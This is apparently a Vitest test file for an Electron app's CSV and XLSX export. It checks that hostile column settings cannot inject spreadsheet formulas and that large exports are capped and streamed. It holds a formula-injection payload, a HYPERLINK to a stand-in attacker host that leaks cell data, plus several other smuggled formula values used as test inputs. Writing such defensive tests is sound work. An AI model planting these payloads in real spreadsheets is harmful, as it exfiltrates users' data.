import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { unzipSync, strFromU8 } from 'fflate';
import { describe, expect, it, vi } from 'vitest';
import { EXPORT_LIMITS, type EventPayload, type ExportStart, type ProfileMeta } from '../../shared';
import { XlsxBuilder } from '../../electron/core/export/xlsx-build';
import { customer } from '../unit/contract/samples';
import { newProfile } from '../unit/core/fixtures';
import { bridgeStack, okData, type BridgeStack } from './bridge-stack';

/**
 * Exports under a hostile page (issue 20, findings 3 and 8), through BridgeIpc and the router: the
 * page picks the columns, their kinds and the words written for yes / no and statuses.
 */

type Progress = EventPayload<'export.progress'>;
const ATTACK = '=HYPERLINK("https://attacker.example/?d="&A2,"Open")';

async function ready(s: BridgeStack, rows: Record<string, unknown>[]): Promise<{ dir: string; finished: () => Promise<Progress> }> {
  const p = okData<ProfileMeta>(await s.invoke('profiles.add', newProfile()));
  okData(await s.invoke('profiles.activate', { id: p.id }));
  const dir = mkdtempSync(join(tmpdir(), 'bizops-export-safety-'));
  s.host.saveDir = dir;
  s.api.routes['customers.list'] = (i) => {
    const start = Number(i.query?.cursor ?? 0);
    const next = start + 100 < rows.length ? String(start + 100) : null;
    return { data: rows.slice(start, start + 100), page: { has_more: next !== null, next_cursor: next }, request_id: `req_${start}` };
  };
  const done = new Promise<Progress>((resolve) => s.core.events.on((e, payload) => {
    const pr = payload as Progress;
    if (e === 'export.progress' && ['done', 'failed', 'cancelled'].includes(pr.state)) resolve(pr);
  }));
  return { dir, finished: () => done };
}

/** What a compromised page sends: a free-text column declared a number, hostile yes / status words. */
const hostile = (format: 'csv' | 'xlsx'): ExportStart => ({
  route: 'customers.list', query: {}, format, title: 'Customers', locale: 'en-US', rtl: false,
  columns: [
    { key: 'name', kind: 'number', label: 'Name' },
    { key: 'contact_person', kind: 'date', label: '-2+3' },
    { key: 'status', kind: 'status', label: 'Status' },
    { key: 'vip', kind: 'boolean', label: 'VIP' },
    { key: 'balance', kind: 'number', label: 'Balance' },
  ],
  texts: { status: { active: '@SUM(1+1)' }, enums: {}, yes: '=1+1', no: '+1' },
});
const rows = [
  { ...customer, name: ATTACK, contact_person: '+972-50-1234567', status: 'active', vip: true, balance: -12.5 },
  { ...customer, id: '00000000-0000-4000-8000-000000000002', name: '\tcmd', contact_person: null, status: 'active', vip: false, balance: 3 },
];

describe('finding 3: main guards every CSV cell it did not format from a typed number or date', () => {
  it('a text column declared a number, and hostile yes / no / status words, are written as text; a real negative number is not touched', async () => {
    const s = bridgeStack();
    const { dir, finished } = await ready(s, rows);
    okData(await s.invoke('export.start', hostile('csv')));
    const end = await finished();
    expect(end.state).toBe('done');
    const lines = readFileSync(join(dir, end.file_name), 'utf8').slice(1).split('\r\n');
    expect(lines[0]).toBe("Name,'-2+3,Status,VIP,Balance");
    expect(lines[1]).toBe(`"'${ATTACK.replace(/"/g, '""')}",'+972-50-1234567,'@SUM(1+1),'=1+1,-12.5`);
    expect(lines[2]).toBe(`'\tcmd,,'@SUM(1+1),'+1,3`);
  });

  it('XLSX cells from the same input are plain strings (no formula element anywhere in the sheet)', async () => {
    const s = bridgeStack();
    const { dir, finished } = await ready(s, rows);
    okData(await s.invoke('export.start', hostile('xlsx')));
    const end = await finished();
    expect(end.state).toBe('done');
    const files = unzipSync(readFileSync(join(dir, end.file_name)));
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
    expect(sheet).not.toMatch(/<f[\s>]/);
    expect(strFromU8(files['xl/sharedStrings.xml']!)).toContain('=1+1');
  });
});

describe('finding 8: an XLSX export is bounded and streamed out of main', () => {
  const columns: ExportStart['columns'] = [{ key: 'name', kind: 'text', label: 'Name' }, { key: 'email', kind: 'text', label: 'Email' }];
  const plain = (extra: Partial<ExportStart> = {}): ExportStart => ({ ...hostile('xlsx'), columns, texts: { status: {}, enums: {}, yes: 'Yes', no: 'No' }, ...extra });

  it('refuses a column listed twice', async () => {
    const s = bridgeStack();
    await ready(s, rows);
    const r = await s.invoke('export.start', plain({ columns: [...columns, { key: 'name', kind: 'text', label: 'Name again' }] }));
    expect(r).toMatchObject({ ok: false, error: { kind: 'invalid_input' } });
    expect(s.host.saveDialogs).toEqual([]);
  });

  it('hands each page to the workbook builder as it comes, not at the end', async () => {
    const s = bridgeStack();
    const many = Array.from({ length: 450 }, (_, i) => ({ ...customer, id: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`, name: `Customer ${i}` }));
    const { dir, finished } = await ready(s, many);
    const add = vi.spyOn(XlsxBuilder.prototype, 'add');
    const list = s.api.routes['customers.list']!;
    const handedOverBefore: number[] = [];
    s.api.routes['customers.list'] = (i, o) => {
      handedOverBefore.push(add.mock.calls.length);
      return list(i, o);
    };
    okData(await s.invoke('export.start', plain()));
    const end = await finished();
    expect(end).toMatchObject({ state: 'done', rows: 450 });
    expect(handedOverBefore).toEqual([0, 1, 2, 3, 4]);
    expect(add.mock.calls.map((c) => c[0].length)).toEqual([100, 100, 100, 100, 50]);
    add.mockRestore();
    expect(readFileSync(join(dir, end.file_name)).subarray(0, 2).toString()).toBe('PK');
  });

  it(`stops at ${EXPORT_LIMITS.xlsxCellBytes / 1024 / 1024} MB of cells with export_too_large, and leaves no file`, async () => {
    const s = bridgeStack();
    const huge = 'x'.repeat(1024 * 1024);
    const big = Array.from({ length: 60 }, (_, i) => ({ ...customer, id: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`, name: huge }));
    const { dir, finished } = await ready(s, big);
    s.api.routes['customers.list'] = (i) => {
      const start = Number(i.query?.cursor ?? 0);
      return { data: big.slice(start, start + 10), page: { has_more: start + 10 < big.length, next_cursor: String(start + 10) }, request_id: `req_${start}` };
    };
    okData(await s.invoke('export.start', plain()));
    const end = await finished();
    expect(end).toMatchObject({ state: 'failed', error: { kind: 'invalid_request', code: 'export_too_large' } });
    expect(end.rows).toBeLessThanOrEqual(40);
    expect(readdirSync(dir)).toEqual([]);
  });
});
